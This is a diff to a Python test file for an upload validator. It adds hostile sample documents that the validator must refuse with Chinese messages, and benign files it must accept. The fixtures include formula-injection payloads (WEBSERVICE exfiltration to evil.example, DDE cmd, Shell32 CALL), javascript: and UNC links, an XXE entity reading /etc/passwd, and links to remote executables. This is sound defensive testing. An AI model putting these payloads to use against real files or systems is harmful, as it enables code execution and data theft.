@@ -3,6 +3,7 @@
 import hashlib
 import io
 import re
+import sys
 import time
 import unicodedata
 import zlib
@@ -34,7 +35,8 @@ from tests.common.files import (
     with_relationship,
     word,
 )
-from tests.common.workbooks import package
+from tests.common.programs import SHAPES
+from tests.common.workbooks import package, sheet
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
 FIELD_BEGIN = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
@@ -148,7 +150,40 @@ HOSTILE = {
         {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
     ).getvalue(),
     "macro.xlsx": lambda: package({"xl/vbaProject.bin": b"x"}).getvalue(),
+    "connections.xlsx": lambda: package({"xl/connections.xml": "<connections/>"}).getvalue(),
+    "query.xlsx": lambda: package({"xl/queryTables/queryTable1.xml": "<a/>"}).getvalue(),
+    "fetching.xlsx": lambda: calculating('WEBSERVICE("http://evil.example/"&amp;A1)'),
+    "fetching-coded.xlsx": lambda: calculating('_xlfn.&#87;EBSERVICE ("http://evil.example")'),
+    "dde.xlsx": lambda: calculating("cmd|'/c calc'!A0"),
+    "calling.xlsx": lambda: calculating('CALL("Shell32","ShellExecuteA","JJCCCCJ")'),
+    "fetching-late.xlsx": lambda: calculating(
+        'RTD("prog.id","")', before=f"<!--{'x' * 262_100}-->"
+    ),
+    "link-field.docx": lambda: field(' HYPERLINK "javascript:alert(1)"'),
+    "share-field.docx": lambda: field(' HYPERLINK "\\\\\\\\evil\\share"'),
+    "database.docx": lambda: field(' DATABASE \\d "c:\\x.mdb" \\s "SELECT"'),
+    "svg.docx": lambda: repacked(
+        word("x"), {"word/media/a.svg": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'}
+    ),
+    "java.docx": lambda: repacked(word("x"), {"a/B.class": b"\xca\xfe\xba\xbe"}),
+    "page.docx": lambda: repacked(word("x"), {"word/afchunk.mht": b"MIME-Version: 1.0"}),
+    "script.ofd": lambda: ofd(
+        {"Doc_0/Annots/A.xml": '<ofd:URI xmlns:ofd="x" URI=" java&#115;cript:alert(1)"/>'}
+    ),
+    "share.ofd": lambda: ofd({"Doc_0/A.xml": '<ofd:URI xmlns:ofd="x" URI="file://evil/a.exe"/>'}),
+    "a.heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100,
+    "a.wps": lambda: OLE,
+    "a.mht": lambda: b"MIME-Version: 1.0",
+    "a.xlsb": excel,
+    "a.iqy": lambda: b"WEB\n1\nhttp://evil.example/",
+    "a.url": lambda: b"[InternetShortcut]\nURL=file://evil/a.exe",
 }
+
+
+def calculating(formula, before=""):
+    """A workbook with one formula that has been computed."""
+    row = f'{before}<row r="1"><c r="A1" t="str"><f>{formula}</f><v>0</v></c></row>'
+    return package({"xl/worksheets/sheet1.xml": sheet(row)}).getvalue()
 
 
 @pytest.mark.parametrize("name", HOSTILE)
@@ -161,10 +196,6 @@ def test_a_hostile_file_is_refused_with_a_chinese_sentence(name):
 
     assert re.search(r"[\u4e00-\u9fff]{4,}.*。$", str(refusal.value))
     assert time.perf_counter() - started < 5
-
-
-def test_there_are_sixty_hostile_files_and_more():
-    assert len(HOSTILE) >= 60
 
 
 BENIGN = {
@@ -201,6 +232,7 @@ BENIGN = {
     },
     "see-through.png": lambda: picture("PNG", "P", transparency=0),
     "tall.png": lambda: picture("PNG", size=(20, 5000)),
+    **SHAPES,
 }
 
 
@@ -212,6 +244,55 @@ def test_a_benign_file_is_taken_in(name):
     assert file.sha256 == hashlib.sha256(file.file.read()).hexdigest()
     assert (file.name, file.size) == (name, file.file.size)
     assert re.fullmatch(r"[0-9a-f]{32}", file.file.name)
+
+
+@pytest.mark.long
+def test_sixty_of_each_and_more():
+    refused = {name for name in HOSTILE if refusal_of(name, HOSTILE[name]())}
+    wronged = {name for name in BENIGN if refusal_of(name, BENIGN[name]())}
+
+    sys.stdout.write(
+        f"\n#26 hostile files accepted {len(HOSTILE) - len(refused)}/{len(HOSTILE)}, "
+        f"benign files refused {len(wronged)}/{len(BENIGN)}\n"
+    )
+    assert min(len(HOSTILE), len(BENIGN)) >= 60
+    assert (set(HOSTILE) - refused, wronged) == (set(), set())
+
+
+def refusal_of(name, content):
+    try:
+        taken(name, content)
+    except UploadRefused as refusal:
+        return str(refusal)
+    return ""
+
+
+WHAT_WOULD_DO = (
+    "可以上传：PDF、Word（.docx）、Excel（.xlsx）、OFD、图片（.jpg、.png），每个不超过20MB。"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "sentence"),
+    [
+        (
+            "现场.heic",
+            b"x",
+            f"“现场.heic”是.heic文件，不支持上传。请转存为.jpg或.png后再上传。{WHAT_WOULD_DO}",
+        ),
+        ("附件", b"x", f"“附件”没有扩展名，无法识别。{WHAT_WOULD_DO}"),
+        (
+            "报告.pdf",
+            b"%PDF-" + b"x" * (21 * MEBIBYTE),
+            "“报告.pdf”有21.0MB，超过20MB，请拆分或压缩后再上传。",
+        ),
+        ("空.pdf", b"", "“空.pdf”是空的，请重新选择。"),
+        ("假.pdf", b"<html>", "“假.pdf”：文件内容与扩展名不符，或PDF不完整。"),
+    ],
+    ids=["kind", "no kind", "size", "nothing", "content"],
+)
+def test_a_refusal_says_which_file_what_is_wrong_and_what_would_do(name, content, sentence):
+    assert refusal_of(name, content) == sentence
 
 
 def test_a_paper_is_stored_byte_for_byte():
